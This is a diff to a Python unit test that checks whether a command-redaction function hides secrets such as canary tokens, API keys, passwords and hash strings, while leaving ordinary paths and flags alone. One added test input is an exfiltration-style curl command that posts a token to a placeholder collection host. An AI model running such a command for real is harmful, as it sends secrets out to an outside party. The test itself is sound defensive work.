@@ -258,8 +258,14 @@ def test_resources_keep_secrets_out() -> None:
     for command in (f"curl -H 'Authorization: Bearer {CANARY}' https://x/",
                     f"mysql --password {CANARY} db", f"env API_KEY={CANARY} run",
                     f"tool --api-key={CANARY}", f"echo {CANARY}",
-                    f"git clone https://bob:{CANARY}@github.com/x.git"):
-        assert CANARY not in redact_command(command), command
+                    f"git clone https://bob:{CANARY}@github.com/x.git",
+                    "curl -d data=tok-6f1d0c9a-exfil-canary-42 http://h/collect",
+                    "echo 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"):
+        redacted = redact_command(command)
+        assert CANARY not in redacted and "canary-42" not in redacted, command
+        assert "9f86d081884c7d65" not in redacted, command
+    kept = "cp /srv/data/report_2024_final_version.txt ./out -r --verbose"
+    assert redact_command(kept) == kept  # paths, short words and flags stay
     assert tool_resource("shell.run", {"command": ["ls", "-l", "/tmp"]}) == "ls -l /tmp"
     assert tool_resource("filesystem.write", {"path": "a.txt", "content": CANARY}) == "a.txt"
     assert tool_resource("filesystem.move", {"source": "a", "destination": "b"}) == "a -> b"
